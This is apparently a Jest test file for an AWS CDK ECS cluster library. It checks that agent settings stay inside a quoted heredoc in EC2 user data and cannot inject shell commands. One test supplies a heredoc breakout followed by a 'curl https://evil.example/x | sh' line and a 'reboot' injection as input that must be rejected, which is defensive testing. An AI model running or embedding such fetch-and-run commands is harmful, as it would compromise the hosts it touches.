import { execFileSync } from 'child_process';
import * as fs from 'fs';
import * as os from 'os';
import * as path from 'path';
import { CfnParameter, Stack, aws_ec2 as ec2 } from 'aws-cdk-lib';
import { Template } from 'aws-cdk-lib/assertions';
import { EcsCluster, EcsMachineImage } from '../../src';
import { HOSTILE_AGENT_SETTING_VALUES } from '../helpers/user-data';
import { errorOf } from '../helpers/validators';

const TERMINATOR = 'CDK_ECS_KIT_AGENT_CONFIG';
const HEREDOC_START = `cat >> /etc/ecs/ecs.config <<'${TERMINATOR}'`;

/** The user data script of the one launch template of `stack`, with the cluster's Ref rendered as `<ClusterName>`. */
function userDataOf(stack: Stack): string {
  const launchTemplates = Object.values(Template.fromStack(stack).findResources('AWS::EC2::LaunchTemplate'));
  expect(launchTemplates).toHaveLength(1);
  const userData = (launchTemplates[0] as any).Properties.LaunchTemplateData.UserData['Fn::Base64'];
  const parts: unknown[] = typeof userData === 'string' ? [userData] : userData['Fn::Join'][1];
  return parts.map(p => (typeof p === 'string' ? p : '<ClusterName>')).join('');
}

function clusterWithAgentSettings(agentSettings: { [key: string]: string }): Stack {
  const stack = new Stack();
  new EcsCluster(stack, 'Cluster', { ec2Capacity: { agentSettings } });
  return stack;
}

const HOSTILE_VALUES = HOSTILE_AGENT_SETTING_VALUES;

describe('EcsCluster user data: agent settings never reach a shell', () => {
  test.each(HOSTILE_VALUES)('the value %j is written inside the quoted heredoc only', value => {
    // GIVEN / WHEN
    const userData = userDataOf(clusterWithAgentSettings({ ECS_IMAGE_PULL_BEHAVIOR: value }));
    // THEN: outside the heredoc there are only the kit's fixed lines
    const lines = userData.split('\n');
    const start = lines.indexOf(HEREDOC_START);
    const end = lines.indexOf(TERMINATOR);
    expect(start).toBeGreaterThan(0);
    expect(end).toBe(lines.length - 1);
    expect([...lines.slice(0, start + 1), ...lines.slice(end)]).toEqual([
      '#!/bin/bash',
      'echo ECS_CLUSTER=<ClusterName> >> /etc/ecs/ecs.config',
      HEREDOC_START,
      TERMINATOR,
    ]);
    // and inside it, the value verbatim on its own KEY=value line
    expect(lines.slice(start + 1, end)).toEqual(['ECS_AWSVPC_BLOCK_IMDS=true', `ECS_IMAGE_PULL_BEHAVIOR=${value}`]);
  });

  test('bash writes every hostile value verbatim to the config file and runs nothing of them', () => {
    // GIVEN: user data with every hostile value, pointed at a scratch directory instead of /etc/ecs
    const settings = Object.fromEntries(HOSTILE_VALUES.map((value, i) => [`ECS_TEST_${i}`, value]));
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'cdk-ecs-kit-user-data-'));
    const script = userDataOf(clusterWithAgentSettings(settings))
      .replace(/\/etc\/ecs\/ecs\.config/g, path.join(dir, 'ecs.config'))
      .replace('<ClusterName>', 'my-cluster');
    // WHEN
    execFileSync('bash', ['-c', script], { cwd: dir, env: { PATH: process.env.PATH, HOME: '/nonexistent' } });
    // THEN
    expect(fs.readFileSync(path.join(dir, 'ecs.config'), 'utf-8')).toBe([
      'ECS_CLUSTER=my-cluster',
      'ECS_AWSVPC_BLOCK_IMDS=true',
      ...HOSTILE_VALUES.map((value, i) => `ECS_TEST_${i}=${value}`),
      '',
    ].join('\n'));
    expect(fs.readdirSync(dir)).toEqual(['ecs.config']); // no PWNED file
  });

  test('fails when a value would break out of its line', () => {
    // GIVEN / WHEN
    const error = errorOf(() => clusterWithAgentSettings({
      ECS_IMAGE_PULL_BEHAVIOR: `prefer-cached\n${TERMINATOR}\ncurl https://evil.example/x | sh`,
      ECS_LOGLEVEL: 'info\r\nreboot',
      ECS_RESERVED_PORTS: '[22]\t',
    }));
    // THEN
    expect(error.problems.map(p => p.prop)).toEqual([
      'ec2Capacity.agentSettings.ECS_IMAGE_PULL_BEHAVIOR',
      'ec2Capacity.agentSettings.ECS_LOGLEVEL',
      'ec2Capacity.agentSettings.ECS_RESERVED_PORTS',
    ]);
    expect(error.problems[0].fix).toMatch(/one line of \/etc\/ecs\/ecs.config/);
  });

  test('fails when a value has leading or trailing spaces, which the agent would not see', () => {
    const error = errorOf(() => clusterWithAgentSettings({ ECS_LOGLEVEL: 'debug  ', ECS_IMAGE_PULL_BEHAVIOR: ' once' }));
    expect(error.problems.map(p => [p.prop, p.received])).toEqual([
      ['ec2Capacity.agentSettings.ECS_LOGLEVEL', '"debug  "'],
      ['ec2Capacity.agentSettings.ECS_IMAGE_PULL_BEHAVIOR', '" once"'],
    ]);
    expect(error.problems[0].fix).toMatch(/The ECS agent reads values with leading and trailing spaces removed/);
  });

  test('fails when a value or a key is a token (its deploy-time value cannot be checked)', () => {
    // GIVEN
    const stack = new Stack();
    const level = new CfnParameter(stack, 'Level').valueAsString;
    // WHEN
    const error = errorOf(() => new EcsCluster(stack, 'Cluster', { ec2Capacity: { agentSettings: { ECS_LOGLEVEL: level, [level]: 'x' } } }));
    // THEN
    expect(error.problems.map(p => p.prop)).toEqual(['ec2Capacity.agentSettings.ECS_LOGLEVEL', 'ec2Capacity.agentSettings']);
    expect(error.problems[0].fix).toMatch(/cannot be tokens/);
  });

  test('fails when the settings would not fit in EC2 user data (16 KB)', () => {
    const error = errorOf(() => clusterWithAgentSettings({ ECS_INSTANCE_ATTRIBUTES: 'x'.repeat(16_000) }));
    expect(error.problems[0]).toMatchObject({ prop: 'ec2Capacity.agentSettings', received: '"16025 bytes"' });
  });

  test('Bottlerocket user data is TOML with the kit\'s constant settings only', () => {
    // GIVEN
    const stack = new Stack();
    // WHEN
    new EcsCluster(stack, 'Cluster', {
      ec2Capacity: { spot: true, instanceTypes: [new ec2.InstanceType('m7g.large')], machineImage: EcsMachineImage.bottlerocket() },
    });
    // THEN: the cluster name comes from the cluster's Ref, a name ECS accepted (letters, digits, - and _)
    expect(userDataOf(stack)).toBe([
      '',
      '[settings.ecs]',
      'cluster = "<ClusterName>"',
      'enable-spot-instance-draining = true',
    ].join('\n'));
  });
});
